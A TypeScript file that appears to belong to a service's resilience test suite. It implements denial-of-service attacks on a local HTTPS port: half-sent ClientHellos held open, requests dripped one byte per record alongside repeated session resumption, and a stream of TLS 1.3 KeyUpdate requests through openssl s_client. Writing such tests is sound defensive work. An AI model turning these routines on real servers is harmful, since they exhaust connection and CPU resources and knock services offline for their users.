/** TLS connections that the service has always withstood. They run in the process of attacker.ts. */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { type ConnectionOptions, connect as connectTls, type TLSSocket } from 'node:tls';
import { addressOf, type Target } from './attacks.ts';
import { eventOf } from './frame-attacks.ts';
import { ordinaryHello, recordOf } from './tls-attacker.ts';

interface Handshakes extends Target {
  readonly count: number;
  readonly holdMs: number;
}

/** Sends half of a ClientHello, on every fifth connection all of it, and then nothing; returns the number of connections that the service did not close. */
export async function stallHandshakes({ count, holdMs, httpsPort }: Handshakes) {
  const endMs = performance.now() + holdMs;
  const hello = recordOf(await ordinaryHello());
  const stall = async (at: number): Promise<number> => {
    const socket = connect({ host: '127.0.0.1', port: httpsPort, localAddress: addressOf(at) });
    socket.on('error', () => {}).resume();
    socket.write(at % 5 === 0 ? hello : hello.subarray(0, hello.length / 2));
    await eventOf(socket, ['close'], endMs);
    const open = socket.closed ? 0 : 1;
    socket.destroy();
    return open;
  };
  const open = await Promise.all(Array.from({ length: count }, (_, at) => stall(at)));
  return { open: open.reduce((sum, each) => sum + each, 0) };
}

function open(port: number, at: number, options: ConnectionOptions = {}): TLSSocket {
  const local = { host: '127.0.0.1', port, localAddress: addressOf(at), rejectUnauthorized: false };
  return connectTls({ ...local, ...options } as ConnectionOptions).on('error', () => {});
}

/** Sends a request in records of one byte without an end, and resumes sessions again and again. */
export async function wasteRecords({ count, holdMs, httpsPort }: Handshakes) {
  const endMs = performance.now() + holdMs;
  const drip = async (at: number): Promise<number> => {
    const socket = open(httpsPort, at).setNoDelay(true).resume();
    await eventOf(socket, ['secureConnect', 'close'], endMs);
    socket.write('GET /ip HTTP/1.1\r\nHost: a\r\nX-A: ');
    for (let sent = 0; sent < 12_000 && socket.writable && performance.now() < endMs; sent += 1) {
      socket.write('a');
      if (sent % 100 === 0) await delay(1);
    }
    await eventOf(socket, ['close'], endMs);
    const isOpen = !socket.closed;
    socket.destroy();
    return isOpen ? 1 : 0;
  };
  let session: Buffer | undefined;
  const resume = async (): Promise<boolean> => {
    const socket = open(httpsPort, 0, session === undefined ? {} : { session }).resume();
    let isResumed = false;
    socket.once('secureConnect', () => {
      isResumed = socket.isSessionReused();
    });
    socket.once('session', (ticket: Buffer) => {
      session = ticket;
    });
    socket.write('GET /ip HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n');
    await eventOf(socket, ['close'], endMs);
    socket.destroy();
    return isResumed;
  };
  const drips = Array.from({ length: count }, (_, at) => drip(at));
  let resumed = 0;
  for (let at = 0; at < 20 * count; at += 1) resumed += (await resume()) ? 1 : 0;
  const isOpen = await Promise.all(drips);
  return { open: isOpen.reduce((sum, each) => sum + each, 0), resumed };
}

/** Requests new keys again and again: one line with `K` makes OpenSSL's client send a KeyUpdate (TLS 1.3). */
export async function updateKeys({ count, holdMs, httpsPort }: Handshakes) {
  const client = spawn('openssl', ['s_client', '-connect', `127.0.0.1:${httpsPort}`, '-tls1_3'], {
    stdio: ['pipe', 'ignore', 'pipe'],
  });
  const isOver = once(client, 'exit');
  client.stdin.on('error', () => {});
  let printed = '';
  client.stderr.on('data', (chunk) => {
    printed += chunk;
  });
  const timer = setTimeout(() => client.kill(), holdMs);
  // It reads a line only when it comes alone.
  for (let sent = 0; sent < count && client.exitCode === null; sent += 1) {
    client.stdin.write('K\n');
    await delay(1);
  }
  await isOver;
  clearTimeout(timer);
  return { updates: printed.split('KEYUPDATE').length - 1 };
}
